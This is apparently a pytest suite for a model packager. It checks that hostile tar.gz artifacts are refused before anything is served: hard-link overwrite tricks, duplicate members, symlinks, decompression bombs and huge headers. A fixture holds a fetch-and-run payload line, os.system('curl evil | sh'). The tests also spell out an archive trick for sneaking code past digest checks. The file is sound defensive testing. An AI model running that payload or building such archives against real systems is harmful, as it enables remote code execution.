"""Hostile archives: verification checks what will be served (no name twice, hard links only to earlier
files, no write through a shared inode), and extraction is capped by the manifest before anything past a
member's listed size is written or read into memory."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import IO

import pytest
from isal import igzip

from packager.archives import UnsafeArchive, extract
from packager.artifacts import (
    MANIFEST,
    SIGNATURE,
    ArtifactError,
    content_digest,
    read_manifest,
    verified,
    verify_artifact,
)
from tests.conftest import RunPackager

Entry = tuple[tarfile.TarInfo, IO[bytes] | None]
MODEL_PY = b"def run():\n    return 'the model'\n"
OTHER_PY = b"import os\nos.system('curl evil | sh')\n"
ZEROS = 200 << 20  # compresses to about 200 KB: a decompression bomb


class _Stream(io.RawIOBase):
    """Bytes, and runs of zero bytes (an int: how many), streamed: a run is never held in memory."""

    def __init__(self, *parts: bytes | int) -> None:
        self.parts = list(parts)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        while self.parts:
            part = self.parts.pop(0)
            size = part if isinstance(part, int) else len(part)
            count = min(len(buffer), size)
            buffer[:count] = bytes(count) if isinstance(part, int) else part[:count]
            if count < size:
                self.parts.insert(0, size - count if isinstance(part, int) else part[count:])
            if count:
                return count
        return 0


def _file(name: str, *parts: bytes | int) -> Entry:
    """A regular member holding `parts` (bytes, or that many zero bytes)."""
    info = tarfile.TarInfo(name)
    info.size = sum(part if isinstance(part, int) else len(part) for part in parts)
    return info, io.BufferedReader(_Stream(*parts))


def _dir(name: str) -> Entry:
    info = tarfile.TarInfo(name)
    info.type, info.mode = tarfile.DIRTYPE, 0o755
    return info, None


def _link(name: str, target: str, kind: bytes = tarfile.LNKTYPE) -> Entry:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


def _manifest(files: dict[str, bytes]) -> bytes:
    """A manifest as the builder writes it, listing `files`."""
    listed = {
        name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in files.items()
    }
    manifest = {"format": 2, "model": "m", "version": 1, "top_model": "m", "files": listed}
    return (json.dumps({**manifest, "content_digest": content_digest(listed)}, indent=2) + "\n").encode()


def _archive(path: Path, *entries: Entry) -> Path:
    """`entries` as a tar.gz (ISA-L level 1: 200 MB of zeros take milliseconds)."""
    with igzip.open(path, "wb", compresslevel=1) as compressed:  # type: ignore[no-untyped-call]
        with tarfile.open(fileobj=compressed, mode="w|", format=tarfile.PAX_FORMAT) as tar:
            for info, data in entries:
                tar.addfile(info, data)
    return path


def _artifact(path: Path, files: dict[str, bytes], *entries: Entry) -> Path:
    """An archive whose manifest lists `files`, holding `entries` after it."""
    return _archive(path, _file(MANIFEST, _manifest(files)), *entries)


def _refused(archive: Path, reason: str) -> None:
    """`archive` is refused for serving with `reason`, and nothing of it is served."""
    with pytest.raises(ArtifactError) as refusal:
        with verified(archive):
            raise AssertionError(f"{archive.name} was unpacked for serving")
    assert str(refusal.value) == f"{archive} does not verify; nothing was run: {reason}"


def _written_bytes() -> int:
    """Every byte this process has written (any thread, any file) so far."""
    counters = dict(line.split(": ") for line in Path("/proc/self/io").read_text().splitlines())
    return int(counters["wchar"])


def _peak_memory(action: Callable[[], object]) -> int:
    """The most Python memory `action` held at once."""
    tracemalloc.start()
    try:
        action()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_file_written_again_through_its_hard_link_is_refused(tmp_path: Path) -> None:
    """The reported attack: A, then B as a hard link to A, then B again as a regular file. Writing B
    through the shared inode put B's bytes in A after A was hashed: every digest matched, A ran B."""
    files = {"m/1/model.py": MODEL_PY, "m/1/other.py": OTHER_PY}
    archive = _artifact(
        tmp_path / "trick.tar.gz",
        files,
        _dir("m"),
        _dir("m/1"),
        _file("m/1/model.py", MODEL_PY),
        _link("m/1/other.py", "m/1/model.py"),
        _file("m/1/other.py", OTHER_PY),
    )
    _refused(archive, "unsafe archive: member 'm/1/other.py' appears twice")


@pytest.mark.parametrize(
    "entries, reason",
    [
        ([_file("m/a.py", MODEL_PY), _file("m/a.py", MODEL_PY)], "member 'm/a.py' appears twice"),
        ([_dir("m"), _dir("m"), _file("m/a.py", MODEL_PY)], "member 'm' appears twice"),
        ([_file("m/a.py", MODEL_PY), _dir("m/a.py")], "member 'm/a.py' appears twice"),
        (
            [_file("m/a.py", MODEL_PY), _file("m/b.py", MODEL_PY), _link("m/b.py", "m/a.py")],
            "member 'm/b.py' appears twice",
        ),
        (
            [_file("m/a.py", MODEL_PY), _file("m/./a.py", MODEL_PY)],
            "member 'm/./a.py' is not written in normal form ('m/a.py')",
        ),
    ],
    ids=["file-twice", "directory-twice", "file-then-directory", "file-then-hard-link", "another-spelling"],
)
def test_a_name_given_twice_is_refused(tmp_path: Path, entries: list[Entry], reason: str) -> None:
    files = {"m/a.py": MODEL_PY, "m/b.py": MODEL_PY}
    _refused(_artifact(tmp_path / "twice.tar.gz", files, *entries), f"unsafe archive: {reason}")


@pytest.mark.parametrize(
    "entries, link",
    [
        ([_link("m/b.py", "m/a.py"), _file("m/a.py", MODEL_PY)], ("m/b.py", "m/a.py")),
        ([_dir("m"), _link("m/b.py", "m")], ("m/b.py", "m")),
        (
            [_file("m/a.py", MODEL_PY), _link("m/b.py", "m/a.py"), _link("m/c.py", "m/b.py")],
            ("m/c.py", "m/b.py"),
        ),
        ([_link("m/b.py", "m/b.py")], ("m/b.py", "m/b.py")),
    ],
    ids=["to-a-later-member", "to-a-directory", "to-a-hard-link", "to-itself"],
)
def test_a_hard_link_to_anything_but_an_earlier_file_is_refused(
    tmp_path: Path, entries: list[Entry], link: tuple[str, str]
) -> None:
    files = {"m/a.py": MODEL_PY, "m/b.py": MODEL_PY, "m/c.py": MODEL_PY}
    archive = _artifact(tmp_path / "link.tar.gz", files, *entries)
    name, target = link
    _refused(archive, f"unsafe archive: member {name!r} is a hard link to {target!r}, not to an earlier file")


def test_a_symlink_is_refused(tmp_path: Path) -> None:
    archive = _artifact(
        tmp_path / "symlink.tar.gz", {"m/a.py": MODEL_PY}, _link("m/a.py", "b.py", tarfile.SYMTYPE)
    )
    _refused(
        archive, "unsafe archive: member 'm/a.py' is a symlink; artifacts hold only files and directories"
    )


def test_an_unlisted_member_is_refused_before_any_of_it_is_written(tmp_path: Path) -> None:
    files = {"m/1/model.py": MODEL_PY}
    archive = _artifact(
        tmp_path / "bomb.tar.gz", files, _file("m/1/model.py", MODEL_PY), _file("m/1/zeros", ZEROS)
    )
    assert archive.stat().st_size < 1 << 20, "a decompression bomb"
    before = _written_bytes()
    _refused(archive, "unsafe archive: member 'm/1/zeros' is not in the manifest")
    assert _written_bytes() - before < 1 << 20, "none of the unlisted member was written"


def test_a_member_larger_than_listed_is_refused_before_more_is_written(tmp_path: Path) -> None:
    files = {"m/1/weights.bin": bytes(1000)}
    archive = _artifact(tmp_path / "larger.tar.gz", files, _file("m/1/weights.bin", ZEROS))
    before = _written_bytes()
    _refused(
        archive, f"unsafe archive: member 'm/1/weights.bin' holds {ZEROS} bytes; the manifest lists 1000"
    )
    assert _written_bytes() - before < 1 << 20, "not a byte past the listed size was written"


def test_a_huge_manifest_is_never_read_into_memory(tmp_path: Path) -> None:
    archive = _archive(tmp_path / "manifest.tar.gz", _file(MANIFEST, ZEROS))
    reason = f"unsafe archive: {MANIFEST} holds {ZEROS} bytes; a manifest holds at most 16 MiB"
    peak = _peak_memory(lambda: _refused(archive, reason))
    assert peak < 16 << 20
    with pytest.raises(ArtifactError, match=f"manifest.tar.gz: {reason}"):
        read_manifest(archive)


def test_a_huge_signature_is_never_read_into_memory(tmp_path: Path) -> None:
    files = {"m/a.py": MODEL_PY}
    archive = _archive(
        tmp_path / "signature.tar.gz", _file(MANIFEST, _manifest(files)), _file(SIGNATURE, ZEROS)
    )
    reason = f"unsafe archive: {SIGNATURE} holds {ZEROS} bytes; a signature holds at most 1 KiB"
    assert _peak_memory(lambda: _refused(archive, reason)) < 16 << 20


def _pax_bomb(size: int) -> Entry:
    """An extended (PAX) header of one `size`-byte comment record: tarfile reads a PAX header whole."""
    info, record = _file(
        "././@PaxHeader", f"{size} comment=".encode(), size - len(f"{size} comment=\n"), b"\n"
    )
    info.type = tarfile.XHDTYPE
    return info, record


@pytest.mark.parametrize("first", [True, False], ids=["before-the-manifest", "before-a-file"])
def test_a_huge_extended_header_is_never_read_into_memory(tmp_path: Path, first: bool) -> None:
    files = {"m/a.py": MODEL_PY}
    bomb, manifest, member = (
        _pax_bomb(ZEROS // 4),
        _file(MANIFEST, _manifest(files)),
        _file("m/a.py", MODEL_PY),
    )
    entries = [bomb, manifest, member] if first else [manifest, bomb, member]
    archive = _archive(tmp_path / "pax.tar.gz", *entries)
    after = "at the start" if first else f"after member {MANIFEST!r}"
    reason = f"unsafe archive: a member header {after} is longer than 64 KiB"
    assert _peak_memory(lambda: _refused(archive, reason)) < 16 << 20


def test_members_are_bounded_by_the_manifest(tmp_path: Path) -> None:
    """Every member is a listed file or a directory holding one: a manifest of one file admits two
    directories, not twenty thousand."""
    files = {"m/1/model.py": MODEL_PY}
    directories = [_dir(f"m/1/d{number:05}") for number in range(20000)]
    archive = _artifact(tmp_path / "many.tar.gz", files, _dir("m"), _dir("m/1"), *directories)
    _refused(archive, "unsafe archive: member 'm/1/d00000' is a directory that holds no file of the manifest")


def test_the_manifest_comes_first(tmp_path: Path) -> None:
    files = {"m/a.py": MODEL_PY}
    archive = _archive(
        tmp_path / "late.tar.gz", _dir("m"), _file(MANIFEST, _manifest(files)), _file("m/a.py", MODEL_PY)
    )
    _refused(archive, f"the first member is 'm', not {MANIFEST}; not an artifact built by the packager")


@pytest.mark.parametrize(
    "raw, reason",
    [
        (b"\x00not json", "not JSON"),
        (b"[]", "not a JSON object"),
        (b"{}", "its files are not a JSON object"),
        (
            b'{"files": {"m/a.py": {"sha256": 1, "size": 3}}}',
            "its entry for 'm/a.py' is not a sha256 and a size",
        ),
        (
            b'{"files": {"m/a.py": {"sha256": "00", "size": -1}}}',
            "its entry for 'm/a.py' is not a sha256 and a size",
        ),
        (
            json.dumps(
                {"files": {"m": {"sha256": "00", "size": 0}, "m/a.py": {"sha256": "00", "size": 0}}}
            ).encode(),
            "it lists 'm' as a file and as the directory of 'm/a.py'",
        ),
    ],
    ids=["not-json", "not-an-object", "no-files", "digest-not-text", "negative-size", "file-and-directory"],
)
def test_a_malformed_manifest_is_refused(tmp_path: Path, raw: bytes, reason: str) -> None:
    archive = _archive(tmp_path / "malformed.tar.gz", _file(MANIFEST, raw))
    _refused(archive, f"{MANIFEST} is not a packager manifest: {reason}")


def test_a_legitimate_artifact_with_hard_links_still_verifies(tmp_path: Path) -> None:
    files = {"m/1/model.py": MODEL_PY, "m/1/other.py": OTHER_PY, "n/1/model.py": MODEL_PY}
    archive = _artifact(
        tmp_path / "fine.tar.gz",
        files,
        _dir("m"),
        _dir("m/1"),
        _file("m/1/model.py", MODEL_PY),
        _file("m/1/other.py", OTHER_PY),
        _dir("n"),
        _dir("n/1"),
        _link("n/1/model.py", "m/1/model.py"),
    )
    with verified(archive) as (_, root):
        assert {path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*.py")} == files
        assert (root / "m/1/model.py").stat().st_ino == (root / "n/1/model.py").stat().st_ino


@pytest.mark.parametrize(
    "entries, reason",
    [
        ([_file("lib/a", b"a"), _file("lib/a", b"b")], "member 'lib/a' appears twice"),
        (
            [_link("lib/s", "a", tarfile.SYMTYPE), _link("lib/h", "lib/s")],
            "member 'lib/h' is a hard link to 'lib/s', not to an earlier file",
        ),
    ],
    ids=["file-twice", "hard-link-to-a-symlink"],
)
def test_environment_tarballs_are_extracted_with_the_same_checks(
    tmp_path: Path, entries: list[Entry], reason: str
) -> None:
    archive = _archive(tmp_path / "env.tar.gz", *entries)
    with pytest.raises(UnsafeArchive, match=reason):
        extract(archive, tmp_path / "env")
    assert not (tmp_path / "env").exists()


def _hard_link_trick(original: Path, out: Path, first: str, second: str) -> Path:
    """`original` with its signed manifest and every member as it was, except that `second` comes as a hard
    link to `first` and then as itself: written through the link, `first` would hold `second`'s bytes."""
    entries: list[Entry] = []
    with tarfile.open(original) as tar:
        for member in tar.getmembers():
            data = tar.extractfile(member) if member.isfile() else None
            if member.name == second:
                entries.append(_link(second, first))
            entries.append((member, io.BytesIO(data.read()) if data is not None else None))
    return _archive(out, *entries)


def test_a_signed_hard_link_trick_is_refused_and_nothing_runs(
    run_packager: RunPackager, model_repo: Path, tmp_path: Path
) -> None:
    keys = [str(tmp_path / "release.key"), str(tmp_path / "release.pub")]
    assert run_packager("keygen", "--private", keys[0], "--public", keys[1], cwd=model_repo).returncode == 0
    built = run_packager("build", "fraud", "--sign-key", keys[0], "--json", cwd=model_repo)
    assert built.returncode == 0, built.stderr
    original = Path(json.loads(built.stdout)["artifacts"][0]["path"])
    trick = _hard_link_trick(
        original, tmp_path / "fraud_1.tar.gz", "postprocess/1/model.py", "preprocess/1/model.py"
    )
    assert (
        read_manifest(trick)[1:] == read_manifest(original)[1:]
    ), "the manifest and its signature are intact"
    reason = "unsafe archive: member 'preprocess/1/model.py' appears twice"
    checked = run_packager("verify", str(trick), "--public-key", keys[1], cwd=model_repo)
    assert checked.returncode == 1
    assert checked.stderr.splitlines() == [f"packager: error: {trick} does NOT verify: {reason}"]
    replayed = run_packager("replay", "--artifact", str(trick), "--public-key", keys[1], cwd=model_repo)
    assert replayed.returncode == 1
    assert f"{trick} does not verify; nothing was run: {reason}" in replayed.stdout
    assert not (model_repo / "dist" / "logs" / "fraud-artifact.log").exists(), "no server was started"
    assert verify_artifact(original, Path(keys[1]))[1] == [], "the untouched artifact verifies"
